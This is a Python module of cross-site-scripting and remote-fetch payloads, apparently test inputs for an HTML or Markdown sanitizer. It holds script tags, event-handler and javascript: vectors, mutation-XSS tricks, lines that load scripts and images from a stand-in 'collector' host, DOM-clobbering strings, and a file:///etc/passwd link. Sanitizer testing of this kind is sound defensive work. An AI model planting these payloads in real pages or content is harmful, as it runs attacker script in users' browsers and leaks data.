"""Texts that try to run a script in the page, to fetch something, or to break its elements.

`RUN` is the script, and `HOST` an address that must not be asked. `payloads` puts the address in.
"""

RUN = "window.pwned=1"
HOST = "http://collector"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={HOST}/s.js></SCRIPT>",
    f"<script type=module>import '{HOST}/m.js'</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<b onmouseover={RUN} style=position:fixed;inset:0>x</b>",
    f'<div style="animation:x" onanimationstart={RUN}>x</div>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f"<embed src={HOST}/e.swf>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<template><script>{RUN}</script></template>",
)
FOREIGN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><image href={HOST}/i.svg /></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f'<math href="javascript:{RUN}">x</math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet ><img src=x onerror={RUN}> ?>",
)
LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](  java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f'<a href="javascript:{RUN}">x</a>',
    f"[a](https://example.org/\" onclick=\"{RUN} 'x')",
    f"[x](https://example.org 'title\" onmouseover=\"{RUN}')",
    "[https://bank.example](https://bank.example@evil.example)",
    "[x](blob:https://example.org/1)",
    "[x](file:///etc/passwd)",
    "[x](/api/agent/runs)",
)
FETCHES = (
    f"![x]({HOST}/i.png)",
    f"![x][i]\n\n[i]: {HOST}/r.png",
    f"![x](javascript:{RUN})",
    f'<img src={HOST}/i.png srcset="{HOST}/s.png 2x">',
    f"<link rel=stylesheet href={HOST}/c.css>",
    f"<link rel=prefetch href={HOST}/p>",
    f"<style>@import '{HOST}/i.css'; body{{background:url({HOST}/b.png)}}</style>",
    f'<p style="background:url({HOST}/b.png)">x</p>',
    f"<table background={HOST}/t.png><tr><td>x</table>",
    f'<meta http-equiv=refresh content="0;url={HOST}/r">',
    f"<base href={HOST}/>",
    f"<video poster={HOST}/p.png></video>",
    f"<input type=image src={HOST}/i.png>",
)
MARKDOWN = (
    f"<img/src=`x`/onerror={RUN}>",
    f"<script\n\n>{RUN}</script\n\n>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | `<script>` |",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"```js onload={RUN}\nlet a = '</code></pre><img src=x onerror={RUN}>';\n```",
    f"`<img src=x onerror={RUN}>`",
    f"> <script>{RUN}</script>",
    f"- [ ] <input onfocus={RUN} autofocus>",
    f"# <svg/onload={RUN}>",
    f"<details><summary>x</summary>\n\n<script>{RUN}</script>\n\n</details>",
    f"**<b>*<i onclick={RUN}>x**</i>*</b>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"a<sub><img src=x onerror={RUN}></sub>",
    f"$<img src=x onerror={RUN}>$",
    f"$$\n<script>{RUN}</script>\n$$",
    f"\\(<svg onload={RUN}>\\) \\[[x](javascript:{RUN})\\]",
)
BREAKERS = (
    "<form name=body><input name=firstChild><input name=attributes></form>",
    "<a id=config><a id=config name=url href=//evil.example>",
    "<img name=currentScript><img name=getElementById>",
    "__proto__",
    "constructor",
    "toString hasOwnProperty",
    "\u202ecod.exe\u202c \u2066x\u2069 \u200b\ufeff",
    "😀 e\u0301\u0301\u0301 \x00\x0b \x1b[31m",
    "\u2028window.pwned=1\u2029",
    "</textarea></title></style></script>--><img src=x onerror=window.pwned=1>",
)


def payloads(host: str) -> list[str]:
    """Return all texts, with this address in place of `HOST`."""
    groups = (SCRIPTS, FOREIGN, LINKS, FETCHES, MARKDOWN, BREAKERS)
    return [text.replace(HOST, host) for group in groups for text in group]
